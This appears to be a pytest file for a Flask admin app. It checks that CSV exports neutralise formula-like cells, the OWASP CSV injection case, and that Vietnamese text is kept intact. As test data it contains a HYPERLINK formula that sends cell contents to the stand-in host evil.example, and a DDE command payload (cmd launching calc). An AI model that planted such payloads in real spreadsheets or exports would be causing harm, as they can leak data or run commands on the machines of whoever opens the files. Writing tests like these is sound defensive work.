"""CSV exports of the lists are inert in a spreadsheet, and keep Vietnamese text as it is.

Through Flask's test client, on SQLite and PostgreSQL: cells that start like a formula
(OWASP's "CSV injection") come out prefixed with a single quote.
"""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from support.admin_site import Site

from workflow_model.models import Delivery, DeliveryStatus, DeliveryTarget, TargetKind


def csv_rows(site: Site, url: str) -> list[list[str]]:
    response = site.browser("exporter").get(url)
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    response.close()
    return list(csv.reader(io.StringIO(text)))


def add_target(site: Site, name: str, address: str) -> int:
    with site.session() as s:
        row = DeliveryTarget(name=name, address=address, format="json", kind=TargetKind.HTTP)
        s.add(row)
        s.commit()
        return row.id


def test_csv_exports_neutralise_formulas_and_keep_vietnamese(site: Site) -> None:
    names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tTab",
        "Một cửa tỉnh Cao Bằng",
    ]
    for n, name in enumerate(names):
        add_target(site, name, f"https://93.184.216.{n + 1}/hook")
    rows = csv_rows(site, "/deliverytarget/export/csv/")
    exported = {row[0] for row in rows[1:]}
    assert exported == {"'" + name if name[0] in "=+-@\t" else name for name in names}, exported
    assert "Một cửa tỉnh Cao Bằng" in exported


def test_a_receivers_error_is_neutralised_in_the_deliveries_export(site: Site) -> None:
    target = add_target(site, "Một cửa", "https://93.184.216.34/hook")
    with site.session() as s:
        version_id = s.scalar(sa.text("SELECT id FROM flow_versions WHERE status = 'approved'"))
        s.add(
            Delivery(
                version_id=version_id,
                target_id=target,
                format="json",
                idempotency_key="k:json",
                status=DeliveryStatus.FAILED,
                last_error='=HYPERLINK("http://evil.example","Lỗi máy chủ")',
            )
        )
        s.commit()
    _header, *rows = csv_rows(site, "/delivery/export/csv/")
    (row,) = rows
    assert '\'=HYPERLINK("http://evil.example","Lỗi máy chủ")' in row
